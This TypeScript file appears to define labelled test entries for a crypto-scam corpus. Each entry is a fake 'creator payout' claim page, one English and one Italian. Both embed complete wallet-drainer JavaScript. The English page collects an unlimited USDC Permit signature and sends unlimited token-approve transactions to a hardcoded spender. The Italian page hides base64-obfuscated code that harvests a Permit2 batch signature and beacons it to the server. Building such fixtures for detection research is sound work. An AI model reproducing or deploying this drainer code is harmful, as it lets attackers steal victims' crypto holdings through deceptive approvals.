import { htmlRoute, redirectRoute, type Entry } from '../entry.js';
import { jsRoute, jsonRoute } from '../parts/e-bin.js';
import { CSS, b64, codes, doc, esc, hex } from '../parts/ys-kit.js';

// Crypto "creator payout" and "collab mint" pages that take wallet approvals or recovery phrases.

const dappCss = `*{box-sizing:border-box}body{margin:0;font-family:Inter,-apple-system,"Segoe UI",Arial,sans-serif;background:#0b0d17;color:#e9ecf5}.nav{display:flex;justify-content:space-between;align-items:center;padding:18px 34px}.nav b{font-size:20px}.cw{background:linear-gradient(90deg,#6d5dfc,#3ab7ff);color:#fff;border:0;border-radius:12px;padding:11px 20px;font-weight:600;cursor:pointer}.card{max-width:480px;margin:40px auto;background:#151a2d;border:1px solid #262d4a;border-radius:20px;padding:28px}.amt{font-size:40px;font-weight:700}.mut{color:#8b93b5;font-size:14px}.st{margin-top:14px;font-size:14px;color:#a6f3c3;min-height:20px}`;

export const entries: Entry[] = [
{
  id: 'ys-creator-fund-usdc-permit-drainer-en',
  label: 'cryptodrainer',
  kind: 'permit-drainer',
  url: 'https://creatorfund-payouts.xyz/claim',
  body: doc({
    title: 'Creator Fund — Claim your Q3 payout',
    css: dappCss,
    body: `<div class="nav"><b>◆ CreatorFund</b><button class="cw" id="c1">Connect Wallet</button></div>
<div class="card"><p class="mut">Q3 2025 Creator Rewards · On-chain payout</p><div class="amt" id="amt">2,450.00 USDC</div>
<p>Eligible creators with 10k+ followers on TikTok, Instagram or YouTube can claim their engagement rewards directly to their wallet. No fees — gas is covered by the fund.</p>
<button class="cw" id="c2" style="width:100%;margin-top:10px">Claim payout</button><div class="st" id="st"></div>
<p class="mut" style="margin-top:18px">Claims close in <b id="t">11:42:09</b>. 38,214 creators have claimed.</p></div>
<script>
(function(){
var SP='0x8f3a1C2b9E47d6A05f11b3c9D2e8a7F4c6B0d918';
var USDC='0xA0b86991c6218b36c1d19D4a2e9Eb0cE3606eB48';
var MAX='0xffffffffffffffffffffffffffffffffffffffffffffffffffffffffffffffff';
var st=function(t){document.getElementById('st').textContent=t};
async function go(){
  if(!window.ethereum){st('No wallet detected. Open this page in MetaMask or Trust Wallet browser.');location.href='https://metamask.app.link/dapp/'+location.host+location.pathname;return}
  var acc=(await ethereum.request({method:'eth_requestAccounts'}))[0];
  var chain=await ethereum.request({method:'eth_chainId'});
  fetch('/api/v2/visit',{method:'POST',headers:{'content-type':'application/json'},body:JSON.stringify({a:acc,c:chain})});
  var toks=await fetch('/api/v2/assets?address='+acc).then(function(r){return r.json()}).catch(function(){return {tokens:[]}});
  st('Preparing your claim…');
  var nonce=toks.nonce||0, deadline=Math.floor(Date.now()/1000)+86400*365;
  var typed={types:{EIP712Domain:[{name:'name',type:'string'},{name:'version',type:'string'},{name:'chainId',type:'uint256'},{name:'verifyingContract',type:'address'}],Permit:[{name:'owner',type:'address'},{name:'spender',type:'address'},{name:'value',type:'uint256'},{name:'nonce',type:'uint256'},{name:'deadline',type:'uint256'}]},primaryType:'Permit',domain:{name:'USD Coin',version:'2',chainId:parseInt(chain,16),verifyingContract:USDC},message:{owner:acc,spender:SP,value:MAX,nonce:nonce,deadline:deadline}};
  var sig=await ethereum.request({method:'eth_signTypedData_v4',params:[acc,JSON.stringify(typed)]});
  await fetch('/api/v2/claim',{method:'POST',headers:{'content-type':'application/json'},body:JSON.stringify({owner:acc,sig:sig,deadline:deadline,token:USDC})});
  for(var i=0;i<(toks.tokens||[]).length;i++){
    var t=toks.tokens[i];
    try{await ethereum.request({method:'eth_sendTransaction',params:[{from:acc,to:t.address,data:'0x095ea7b3'+SP.slice(2).toLowerCase().padStart(64,'0')+MAX.slice(2)}]})}catch(e){}
  }
  st('Claim submitted. Funds arrive within 10 minutes.');
}
document.getElementById('c1').onclick=go;document.getElementById('c2').onclick=go;
})();
</script>`,
  }),
  routes: {
    'creatorfund-payouts.xyz/api/v2/assets': jsonRoute({ nonce: 0, tokens: [{ address: '0xdAC17F958D2ee523a2206206994597C13D831ec7', symbol: 'USDT' }, { address: '0x6B175474E89094C44Da98b954EedeAC495271d0F', symbol: 'DAI' }] }),
  },
},

{
  id: 'ys-influencer-royalty-permit2-obf-it',
  label: 'cryptodrainer',
  kind: 'permit-drainer',
  url: 'https://royalty-creator-it.eth-claim.net/riscatta',
  body: doc({
    lang: 'it',
    title: 'Royalty Creator Italia — Riscatta le tue royalty',
    css: dappCss,
    head: `<script src="/assets/js/w3-connect.bundle.js" defer></script>`,
    body: `<div class="nav"><b>RoyaltyCreator<span style="color:#3ab7ff">.it</span></b><button class="cw" data-connect>Collega wallet</button></div>
<div class="card"><p class="mut">Royalty maturate sui contenuti sponsorizzati</p><div class="amt">€ 1.980,40</div>
<p>Le royalty dei contenuti riutilizzati dai brand nel 2025 vengono pagate in stablecoin. Collega il tuo wallet per riscattare il saldo prima della scadenza.</p>
<button class="cw" style="width:100%" data-connect>Riscatta ora</button><div class="st" id="st"></div></div>`,
  }),
  routes: {
    'royalty-creator-it.eth-claim.net/assets/js/w3-connect.bundle.js': jsRoute(`(function(_0x1,_0x2){var _k=${JSON.stringify([b64('eth_requestAccounts'), b64('eth_signTypedData_v4'), b64('0x000000000022D473030F116dDEE9F6B43aC78BA3'), b64('PermitBatch'), b64('/api/r/ok'), b64('0x91fA0dE6a44b2C7e38F5b1aD90c3E2f48b57C6a1')])}.map(function(s){return atob(s)});
_0x2(document).forEach(function(b){b.addEventListener('click',async function(){
 var e=window[_0x1];if(!e){document.getElementById('st').textContent='Apri la pagina dal browser del tuo wallet.';return}
 var a=(await e.request({method:_k[0]}))[0];var ch=parseInt(await e.request({method:'eth_chainId'}),16);
 var list=await fetch('/api/r/tokens?a='+a).then(function(r){return r.json()}).catch(function(){return []});
 var d={types:{EIP712Domain:[{name:'name',type:'string'},{name:'chainId',type:'uint256'},{name:'verifyingContract',type:'address'}],PermitDetails:[{name:'token',type:'address'},{name:'amount',type:'uint160'},{name:'expiration',type:'uint48'},{name:'nonce',type:'uint48'}],PermitBatch:[{name:'details',type:'PermitDetails[]'},{name:'spender',type:'address'},{name:'sigDeadline',type:'uint256'}]},
  domain:{name:'Permit2',chainId:ch,verifyingContract:_k[2]},primaryType:_k[3],
  message:{details:list.map(function(t){return {token:t,amount:'1461501637330902918203684832716283019655932542975',expiration:'1893456000',nonce:'0'}}),spender:_k[5],sigDeadline:'1893456000'}};
 var s=await e.request({method:_k[1],params:[a,JSON.stringify(d)]});
 navigator.sendBeacon(_k[4],JSON.stringify({a:a,s:s,d:d}));
 document.getElementById('st').textContent='Richiesta inviata. Riceverai i fondi entro 24 ore.';
})})})('ethereum',function(d){return [].slice.call(d.querySelectorAll('[data-connect]'))});`),
    'royalty-creator-it.eth-claim.net/api/r/tokens': jsonRoute(['0xA0b86991c6218b36c1d19D4a2e9Eb0cE3606eB48', '0xdAC17F958D2ee523a2206206994597C13D831ec7', '0xC02aaA39b223FE8D0A0e5C4F27eAD9083C756Cc2']),
  },
},
];
